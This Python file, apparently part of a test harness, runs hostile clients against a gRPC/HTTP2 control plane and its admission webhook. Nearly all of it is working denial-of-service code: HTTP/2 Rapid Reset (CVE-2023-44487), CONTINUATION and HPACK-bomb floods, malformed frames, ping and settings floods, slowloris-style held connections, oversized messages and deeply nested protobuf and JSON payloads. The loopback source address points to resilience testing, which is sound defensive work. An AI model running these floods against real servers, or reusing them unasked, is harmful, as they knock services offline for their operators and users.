"""Clients that nobody knows and that mean ill, as a program of its own so that they do not slow the honest ones' clocks.

usage: python hostile.py ATTACK ADDRESS SECONDS SOURCE [--tls | --plain]

They come from the loopback address SOURCE, another than the honest clients', and print one JSON line of what they did."""

import json
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
ADS = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
CERTIFICATE = "/fairway.identity.v1.CertificateService/CreateCertificate"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _length(size, bits):
    """HPACK's integer, RFC 7541 section 5.1."""
    limit = (1 << bits) - 1
    if size < limit:
        return bytes([size])
    out, size = bytearray([limit]), size - limit
    while size >= 128:
        out.append(size % 128 | 128)
        size //= 128
    return bytes(out + bytes([size]))


def literal(name, value):
    """A header without index and without Huffman coding."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\x00" + _length(len(name), 7) + name + _length(len(value), 7) + value


def grpc_headers(path, *more):
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    pairs += [("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in pairs)


class Connection:
    """A connection whose answers are read and dropped, unless `deaf`."""

    def __init__(self, attack, deaf=False, preface=True):
        self.socket = attack.connect()
        self.open = True
        # TLS must not be read and written at a time: there each send() reads first.
        self.reads = not deaf and isinstance(self.socket, ssl.SSLSocket)
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
        if not deaf and not self.reads:
            threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self):
        try:
            while self.socket.recv(65536):
                pass
        except OSError:
            pass
        self.open = False

    def _drain_now(self):
        self.socket.settimeout(0)
        try:
            while self.socket.recv(65536):
                pass
            self.open = False
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            self.socket.settimeout(5)

    def send(self, data):
        """False when the server has closed the connection."""
        try:
            if self.reads:
                self._drain_now()
            self.socket.sendall(data)
            return self.open
        except OSError:
            self.open = False
            return False

    def close(self):
        try:
            self.socket.close()
        except OSError:
            pass


class Attack:
    def __init__(self, address, seconds, source, tls):
        host, port = address.rsplit(":", 1)
        self.target, self.source, self.tls = (host.strip("[]"), int(port)), source, tls
        self.end = time.monotonic() + seconds
        self.connections = self.refused = self.sent = 0
        self.lock = threading.Lock()

    def running(self):
        return time.monotonic() < self.end

    def raw(self):
        s = socket.create_connection(self.target, 5, source_address=(self.source, 0))
        s.settimeout(5)
        with self.lock:
            self.connections += 1
        return s

    def connect(self):
        s = self.raw()
        if self.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            s = context.wrap_socket(s, server_hostname="localhost")
            s.settimeout(5)
        return s

    def repeat(self, each, workers=4):
        """`each(connection)` sends something and says whether to go on; a closed connection is followed by another."""

        def work():
            while self.running():
                try:
                    connection = Connection(self)
                except OSError:
                    self.refused += 1
                    time.sleep(0.02)
                    continue
                state = {"stream": 1}
                while self.running() and each(connection, state):
                    self.sent += 1
                connection.close()

        threads = [threading.Thread(target=work) for _ in range(workers)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def hold(self, opened, count):
        """Keeps up to `count` sockets that `opened()` makes until the end, and replaces those that the server closes."""
        held = []
        while self.running():
            while len(held) < count and self.running():
                try:
                    held.append(opened())
                    self.sent += 1
                except OSError:
                    self.refused += 1
                    break
            alive = []
            for s in held:
                s.setblocking(False)
                try:
                    closed = s.recv(4096) == b""
                except (BlockingIOError, ssl.SSLWantReadError):
                    closed = False
                except OSError:
                    closed = True
                if closed:
                    self.refused += 1
                    s.close()
                else:
                    alive.append(s)
            held = alive
            time.sleep(0.05)

    # --- before HTTP/2 ---------------------------------------------------------------------------------

    def silent(self):
        """Connections that say nothing."""
        self.hold(self.raw, 3000)

    def slow_handshake(self):
        """The beginning of a TLS handshake, and no more."""

        def begun():
            s = self.raw()
            s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 100)
            return s

        self.hold(begun, 3000)

    def handshakes(self):
        """Whole handshakes, then silence."""
        self.hold(self.connect, 1500)

    def garbage(self):
        """Bytes that are no protocol."""
        def each(connection, state):
            return connection.send(bytes(range(256)) * 64)

        self.repeat(each)

    # --- HTTP/2 ------------------------------------------------------------------------------------------

    def rapid_reset(self):
        """CVE-2023-44487: streams that are opened and reset at once."""
        headers = grpc_headers(ADS)

        def each(connection, state):
            parts = []
            for _ in range(200):
                stream = state["stream"]
                parts.append(frame(HEADERS, END_HEADERS, stream, headers))
                parts.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                state["stream"] += 2
            return connection.send(b"".join(parts))

        self.repeat(each)

    def rapid_reset_small(self):
        """The same in as few bytes as can be: headers that the table knows."""
        pairs = [(":method", "POST"), (":scheme", "http"), (":path", ADS), (":authority", "localhost"),
                 ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
        # Into the table, RFC 7541 section 6.2.1; the last one of it has index 62.
        first = b"".join(b"\x40" + literal(name, value)[1:] for name, value in pairs)
        again = bytes(0x80 | (62 + i) for i in reversed(range(len(pairs))))

        def each(connection, state):
            parts = []
            for _ in range(200):
                block = first if state["stream"] == 1 else again
                parts.append(frame(HEADERS, END_HEADERS, state["stream"], block))
                parts.append(frame(RST_STREAM, 0, state["stream"], struct.pack(">I", 8)))
                state["stream"] += 2
            return connection.send(b"".join(parts))

        self.repeat(each)

    def rapid_reset_unary(self):
        """The same of the certificate service, whose calls wait for a message."""
        headers = grpc_headers(CERTIFICATE)

        def each(connection, state):
            parts = []
            for _ in range(200):
                parts.append(frame(HEADERS, END_HEADERS, state["stream"], headers))
                parts.append(frame(RST_STREAM, 0, state["stream"], struct.pack(">I", 8)))
                state["stream"] += 2
            return connection.send(b"".join(parts))

        self.repeat(each)

    def half_calls(self):
        """CVE-2023-4785 and its like: as many calls as a connection takes, on many connections, none of which goes on."""
        def begun():
            s = self.connect()
            calls = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, grpc_headers(CERTIFICATE)) for i in range(100))
            s.sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
            return s

        self.hold(begun, 600)

    def headers_flood(self):
        """CVE-2023-33953: headers far over the limit, in continuations without an end."""
        chunk = literal("x" * 100, b"y" * 16000)

        def each(connection, state):
            if "begun" not in state:
                state["begun"] = True
                return connection.send(frame(HEADERS, 0, 1, grpc_headers(ADS)))
            return connection.send(frame(CONTINUATION, 0, 1, chunk) * 4)

        self.repeat(each)

    def hpack_bomb(self):
        """CVE-2023-32731, -32732 and -33953: table entries that are referred to thousands of times, sizes that change,
        texts that are no header's."""
        fill = b"\x40" + _length(10, 7) + b"x-filler-0" + _length(3000, 7) + b"z" * 3000
        refer = b"\xbe" * 12000
        resize = b"\x20\x3f\xe1\x1f"

        def each(connection, state):
            stream = state["stream"]
            state["stream"] += 2
            block = resize + grpc_headers(ADS) + fill
            odd = grpc_headers(ADS, ("bad-bin", "!!no base64!!"), ("grpc-timeout", "99999999999H"), ("te", "trailers"))
            return connection.send(
                frame(HEADERS, 0, stream, block) + frame(CONTINUATION, END_HEADERS, stream, refer)
                + frame(HEADERS, END_HEADERS, stream + 10000, odd)
            )

        self.repeat(each)

    def bad_frames(self):
        """CVE-2023-1428: headers and frames that no client may send, each on a connection of its own."""
        cases = [
            frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),  # an index without end
            frame(HEADERS, END_HEADERS, 1, b"\x00\x7f\xff\xff\xff\xff\xff\x0f"),  # a length beyond all
            frame(HEADERS, END_HEADERS, 1, literal(":path", b"\x00\xff")),
            frame(HEADERS, END_HEADERS, 1, grpc_headers(ADS, ("te", "x"), (":path", "/again"))),
            frame(HEADERS, END_HEADERS, 1, grpc_headers(ADS) + b"\x20\xff\xff\xff\xff\x0f"),  # a size after the fields
            frame(HEADERS, END_HEADERS | 0x20, 1, b"\x00\x00\x00\x01\xff"),  # depends on itself
            frame(HEADERS, END_HEADERS | 8, 1, b"\xff" + b"x"),  # more padding than frame
            frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"),
            frame(SETTINGS, 0, 0, b"\x00"),
            frame(SETTINGS, 0, 1, b""),
            frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x00"),
            frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2,
            frame(PING, 0, 0, b"short"),
            frame(RST_STREAM, 0, 7, b"\x00\x00\x00\x08"),
            frame(CONTINUATION, END_HEADERS, 1, b""),
            frame(DATA, END_STREAM, 0, b"x"),
            b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",  # a frame of 16 MB
            frame(99, 0xFF, 0x7FFFFFFF, b"x" * 100),
        ]

        def each(connection, state):
            connection.send(cases[self.sent % len(cases)])
            connection.send(frame(PING, 0, 0, b"12345678"))
            return False

        def counted(connection, state):
            self.sent += 1
            return each(connection, state)

        self.repeat(counted)

    def settings_flood(self):
        """Settings that are to be acknowledged, from a client that reads nothing."""
        self._unread(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 500)

    def ping_flood(self):
        """Pings that are to be answered, from a client that reads nothing."""
        self._unread(frame(PING, 0, 0, b"12345678") * 500)

    def empty_data(self):
        """Empty frames of data, which no flow control holds back."""
        def each(connection, state):
            first = b""
            if "begun" not in state:
                state["begun"] = True
                first = frame(HEADERS, END_HEADERS, 1, grpc_headers(ADS))
            return connection.send(first + frame(DATA, 0, 1) * 1000)

        self.repeat(each)

    def _unread(self, data):
        def work():
            while self.running():
                try:
                    connection = Connection(self, deaf=True)
                    connection.socket.settimeout(1)
                    while self.running() and connection.send(data):
                        self.sent += 1
                    connection.close()
                except OSError:
                    self.refused += 1
                    time.sleep(0.02)

        threads = [threading.Thread(target=work) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def tiny_windows(self):
        """A window of one byte, so that answers never leave."""
        settings = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x01")

        def begun():
            s = self.connect()
            body = b"\x00\x00\x00\x00\x00"
            call = frame(HEADERS, END_HEADERS, 1, grpc_headers(ADS)) + frame(DATA, END_STREAM, 1, body)
            s.sendall(PREFACE + settings + call)
            return s

        self.hold(begun, 600)

    def _message(self, body):
        """Calls with this message, one after the other."""
        data = b"".join(frame(DATA, 0, 0, body[i : i + 16384]) for i in range(0, len(body), 16384))

        def each(connection, state):
            stream = struct.pack(">I", state["stream"])
            # The stream's number is in bytes 5 to 8 of each frame's head.
            parts, at = [], 0
            while at < len(data):
                size = int.from_bytes(data[at : at + 3], "big") + 9
                parts.append(data[at : at + 5] + stream + data[at + 9 : at + size])
                at += size
            ok = connection.send(frame(HEADERS, END_HEADERS, state["stream"], grpc_headers(ADS)) + b"".join(parts))
            state["stream"] += 2
            return ok

        self.repeat(each)

    def huge_messages(self):
        """A message that says it has two gigabytes, and one of four megabytes."""
        self._message(b"\x00" + struct.pack(">I", 1 << 31) + b"x" * 200_000)

    def deep_protobuf(self):
        """A node whose metadata nests without end."""
        value = b""
        for _ in range(4000):
            inner = b"\x32" + _length_varint(len(value)) + value if value else b""  # Value.list_value
            value = b"\x0a" + _length_varint(len(inner)) + inner  # ListValue.values
        node = b"\x1a" + _length_varint(len(value)) + value
        request = b"\x0a" + _length_varint(len(node)) + node
        self._message(b"\x00" + struct.pack(">I", len(request)) + request)

    # --- HTTP/1.1: the webhook, the admin port --------------------------------------------------------------

    def slow_headers(self):
        def begun():
            s = self.connect()
            s.sendall(b"POST /validate HTTP/1.1\r\nHost: a\r\nX: ")
            return s

        self.hold(begun, 600)

    def slow_bodies(self):
        def begun():
            s = self.connect()
            s.sendall(b"POST /validate HTTP/1.1\r\nHost: a\r\nContent-Length: 8000000\r\n\r\n" + b" " * 60_000)
            return s

        self.hold(begun, 600)

    def _bodies(self, body):
        head = b"POST /validate HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(body)

        def work():
            while self.running():
                try:
                    s = self.connect()
                    self.sent += 1
                    s.sendall(head + body)
                    s.recv(65536)
                    s.close()
                except OSError:
                    self.refused += 1
                    time.sleep(0.02)

        threads = [threading.Thread(target=work) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def deep_json(self):
        """CVE-2022-39278: nesting that a parser answers with its stack."""
        self._bodies(b'{"request":{"uid":"1","object":' + b"[" * 500_000 + b"]" * 500_000 + b"}}")

    def wide_json(self):
        """Values that take much more memory than text."""
        self._bodies(b'{"request":{"uid":"1","object":[' + b'{"":0},' * 1_000_000 + b"0]}}")

    def huge_bodies(self):
        """CVE-2022-24726: more than any admission review has."""
        self._bodies(b'{"request":{"uid":"1","object":"' + b"x" * 12_000_000 + b'"}}')

    def huge_headers(self):
        self._bodies_with_head(b"POST /validate HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 100_000 + b"\r\n")

    def _bodies_with_head(self, head):
        def each(connection, state):
            connection.send(head)
            self.sent += 1
            return False

        def work():
            while self.running():
                try:
                    connection = Connection(self, preface=False)
                    each(connection, {})
                    connection.close()
                except OSError:
                    self.refused += 1
                    time.sleep(0.02)

        threads = [threading.Thread(target=work) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def _length_varint(size):
    out = bytearray()
    while size >= 128:
        out.append(size % 128 | 128)
        size //= 128
    return bytes(out + bytes([size]))


def main(name, address, seconds, source, transport):
    attack = Attack(address, float(seconds), source, transport == "--tls")
    getattr(attack, name)()
    print(json.dumps({"connections": attack.connections, "refused": attack.refused, "sent": attack.sent}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
